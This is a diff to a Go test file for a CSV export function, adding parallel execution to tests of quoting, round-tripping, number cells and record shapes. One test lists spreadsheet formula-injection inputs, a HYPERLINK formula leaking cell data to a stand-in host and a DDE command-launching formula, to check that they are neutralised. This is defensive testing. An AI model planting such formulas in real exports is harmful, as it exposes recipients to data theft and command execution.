@@ -34,6 +34,7 @@ func writeCSV(t testing.TB, tab Table) []byte {
 }
 
 func TestWriteCSVBytes(t *testing.T) {
+	t.Parallel()
 	got := string(writeCSV(t, Table{
 		Header: []string{"Nimi", "Muistiinpano"},
 		Rows: [][]Cell{
@@ -52,6 +53,7 @@ func TestWriteCSVBytes(t *testing.T) {
 }
 
 func TestWriteCSVRoundTrip(t *testing.T) {
+	t.Parallel()
 	header := []string{"Nimi", "Kaupunki", "Muistiinpano", "Summa"}
 	rows := [][]string{
 		{"Äijälä Oy", "Åbo, Finland", "sanoi \"hei\" ja lähti", "1 234,50 €"},
@@ -75,6 +77,7 @@ func TestWriteCSVRoundTrip(t *testing.T) {
 }
 
 func TestWriteCSVNeutralizes(t *testing.T) {
+	t.Parallel()
 	dangerous := []string{
 		`=HYPERLINK("http://evil.example/?d="&A1,"Click")`,
 		`=cmd|' /C calc'!A0`,
@@ -102,6 +105,7 @@ func TestWriteCSVNeutralizes(t *testing.T) {
 }
 
 func TestWriteCSVNumberCells(t *testing.T) {
+	t.Parallel()
 	tab := Table{
 		Header: []string{"Amount"},
 		Rows: [][]Cell{
@@ -119,6 +123,7 @@ func TestWriteCSVNumberCells(t *testing.T) {
 }
 
 func TestWriteCSVShapes(t *testing.T) {
+	t.Parallel()
 	// A one-column export with an empty cell must not lose that record as a blank line.
 	got := readCSV(t, writeCSV(t, Table{Header: []string{"Note"}, Rows: [][]Cell{{TextCell("")}, {TextCell("x")}}}))
 	if want := [][]string{{"Note"}, {""}, {"x"}}; !reflect.DeepEqual(got, want) {
